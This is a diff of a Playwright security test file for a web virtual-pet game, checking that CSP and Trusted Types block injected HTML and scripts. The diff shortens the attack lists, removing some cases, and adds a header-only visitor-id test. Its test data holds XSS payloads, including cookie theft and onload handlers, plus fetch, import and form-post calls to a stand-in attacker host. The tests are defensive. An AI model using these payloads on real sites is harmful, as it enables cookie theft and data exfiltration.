@@ -1,5 +1,6 @@
 import { type Page } from '@playwright/test'
 import { WITH_SERVICE_WORKER, expect, test as base } from './test.ts'
+import { idIn } from './visitor.ts'
 
 declare global {
   /** Set by an attack that succeeded. */
@@ -46,34 +47,31 @@ async function expectNothingStolen(page: Page, reached: string[]) {
 
 // What an attacker who can put text into our HTML would write.
 const MARKUP = [
-  ['a script', '<script>stolen = document.cookie</script>', 'script-src-elem'],
-  ['a script of theirs', `<script src="${EVIL}/x.js"></script>`, 'script-src-elem'],
-  ['a script in an address', '<script src="data:,stolen=1"></script>', 'script-src-elem'],
-  ['a handler on a picture', '<img src="/icon.svg" onload="stolen = 1">', 'script-src-attr'],
-  ['a handler on a drawing', '<svg onload="stolen = 1"></svg>', 'script-src-attr'],
-  ['a style', '<style>body { display: none }</style>', 'style-src-elem'],
-  ['a style attribute', '<p style="position: fixed; inset: 0">Sign in</p>', 'style-src-attr'],
-  ['styles of theirs', `<link rel="stylesheet" href="${EVIL}/x.css">`, 'style-src-elem'],
-  ['a picture that reports', `<img src="${EVIL}/x.png">`, 'img-src'],
-  ['a frame', `<iframe src="${EVIL}"></iframe>`, 'frame-src'],
-  ['an object', `<object data="${EVIL}/x.swf"></object>`, 'object-src'],
-  ['an embedded file', `<embed src="${EVIL}/x.pdf">`, 'object-src'],
-  ['a film', `<video src="${EVIL}/x.mp4" autoplay></video>`, 'media-src'],
-  ['another base for all addresses', `<base href="${EVIL}">`, 'base-uri'],
+  ['<script>stolen = document.cookie</script>', 'script-src-elem'],
+  [`<script src="${EVIL}/x.js"></script>`, 'script-src-elem'],
+  ['<img src="/icon.svg" onload="stolen = 1">', 'script-src-attr'],
+  ['<style>body { display: none }</style>', 'style-src-elem'],
+  ['<p style="position: fixed; inset: 0">Sign in</p>', 'style-src-attr'],
+  [`<link rel="stylesheet" href="${EVIL}/x.css">`, 'style-src-elem'],
+  [`<img src="${EVIL}/x.png">`, 'img-src'],
+  [`<iframe src="${EVIL}"></iframe>`, 'frame-src'],
+  [`<object data="${EVIL}/x.swf"></object>`, 'object-src'],
+  [`<video src="${EVIL}/x.mp4" autoplay></video>`, 'media-src'],
+  [`<base href="${EVIL}">`, 'base-uri'],
 ] as const
 
 test('Injected HTML does nothing, and the game works', async ({ page, game }) => {
   const reached = await evilServer(page)
   await page.route('/virtual-pet', async (route) => {
     const response = await route.fetch()
-    const markup = MARKUP.map(([, text]) => text).join('')
+    const markup = MARKUP.map(([text]) => text).join('')
     const body = (await response.text()).replace(/<body[^>]*>/, `$&${markup}`)
     await route.fulfill({ response, body })
   })
   await game.open()
   await game.createPet('Biscuit')
   await game.shows(50)
-  const wanted = MARKUP.map(([, , directive]) => directive).sort()
+  const wanted = MARKUP.map(([, directive]) => directive).sort()
   await expect.poll(async () => (await stopped(page)).sort()).toEqual(wanted)
   await expectNothingStolen(page, reached)
 })
@@ -81,69 +79,19 @@ test('Injected HTML does nothing, and the game works', async ({ page, game }) =>
 // What a script could do that got a text of an attacker's into its hands.
 const ATTACKS = [
   // By a timer: what a debugger runs at once may always use eval.
-  ['eval', "setTimeout(() => eval('stolen = 1'))", 'require-trusted-types-for'],
+  ["setTimeout(() => eval('stolen = 1'))", 'require-trusted-types-for'],
+  ["document.body.innerHTML = '<img src=/icon.svg onload=stolen=1>'", 'require-trusted-types-for'],
+  ["new Worker(URL.createObjectURL(new Blob(['1'])))", 'require-trusted-types-for'],
+  ["navigator.serviceWorker.register('/icon.svg').catch(() => {})", 'require-trusted-types-for'],
+  ["trustedTypes.createPolicy('default', { createHTML: (text) => text })", 'trusted-types'],
+  ["trustedTypes.createPolicy('rema-worker', {})", 'trusted-types'],
+  [`import('${EVIL}/x.js').catch(() => {})`, 'script-src-elem'],
+  [`fetch('${EVIL}/x').catch(() => {})`, 'connect-src'],
   [
-    'a function from a text',
-    "setTimeout(() => new Function('stolen = 1')())",
-    'require-trusted-types-for',
-  ],
-  ['a timer with a text', "setTimeout('stolen = 1')", 'require-trusted-types-for'],
-  [
-    'HTML from a text',
-    "document.body.innerHTML = '<img src=/icon.svg onload=stolen=1>'",
-    'require-trusted-types-for',
-  ],
-  [
-    'HTML added from a text',
-    "document.body.insertAdjacentHTML('beforeend', '<svg onload=stolen=1>')",
-    'require-trusted-types-for',
-  ],
-  [
-    'document.write',
-    "document.write('<script>stolen=1</scr' + 'ipt>')",
-    'require-trusted-types-for',
-  ],
-  [
-    'an element of script',
-    "document.body.append(Object.assign(document.createElement('script'), { text: 'stolen=1' }))",
-    'require-trusted-types-for',
-  ],
-  [
-    'a script address from a text',
-    `document.body.append(Object.assign(document.createElement('script'), { src: '${EVIL}/x.js' }))`,
-    'require-trusted-types-for',
-  ],
-  [
-    'a worker from memory',
-    "new Worker(URL.createObjectURL(new Blob(['1'])))",
-    'require-trusted-types-for',
-  ],
-  [
-    'a service worker of another address',
-    "navigator.serviceWorker.register('/icon.svg').catch(() => {})",
-    'require-trusted-types-for',
-  ],
-  [
-    'a policy that trusts everything',
-    "trustedTypes.createPolicy('default', { createHTML: (text) => text })",
-    'trusted-types',
-  ],
-  [
-    'our policy made a second time',
-    "trustedTypes.createPolicy('rema-worker', { createScriptURL: (text) => text })",
-    'trusted-types',
-  ],
-  ['a module of theirs', `import('${EVIL}/x.js').catch(() => {})`, 'script-src-elem'],
-  ['a call to them', `fetch('${EVIL}/x').catch(() => {})`, 'connect-src'],
-  ['a beacon to them', `navigator.sendBeacon('${EVIL}/x', 'secret')`, 'connect-src'],
-  ['a socket to them', "new WebSocket('wss://evil.example/x')", 'connect-src'],
-  [
-    'a form that posts to them',
     `const form = document.createElement('form'); form.action = '${EVIL}/x'; form.method = 'post'; document.body.append(form); form.submit()`,
     'form-action',
   ],
   [
-    'a link with a script for an address',
     "const link = document.createElement('a'); link.href = 'javascript:stolen=1'; document.body.append(link); link.click()",
     'script-src-elem',
   ],
@@ -155,13 +103,29 @@ test('Scripts cannot run injected text or reach another origin', async ({ page, 
   await expect(game.nameField).toBeVisible()
   // Registering the worker is what makes the policy; a second one must not be possible.
   await page.evaluate(() => navigator.serviceWorker.ready)
-  for (const [what, attack, directive] of ATTACKS) {
+  for (const [attack, directive] of ATTACKS) {
     const before = (await stopped(page)).length
     await page.evaluate(attack).catch(() => {})
     const seen = async () => (await stopped(page)).slice(before)
-    await expect.poll(seen, `what stops ${what}`).toContain(directive)
+    await expect.poll(seen, attack).toContain(directive)
   }
   await expectNothingStolen(page, reached)
+})
+
+test('The visitor id is sent in a header only, never in a URL or body', async ({ page, game }) => {
+  const sent: string[] = []
+  const headers: (string | undefined)[] = []
+  page.on('request', (request) => {
+    sent.push(request.url() + (request.postData() ?? ''))
+    if (request.url().includes('/api/')) headers.push(request.headers()['authorization'])
+  })
+  await game.open()
+  await game.createPet('Biscuit')
+  await game.care('Feed').click()
+  await game.shows(60)
+  const id = await idIn(page)
+  expect(new Set(headers)).toEqual(new Set([`Bearer ${id}`]))
+  expect(sent.filter((text) => text.includes(String(id)))).toEqual([])
 })
 
 test('An error in a script is reported with its place only', async ({ page }) => {
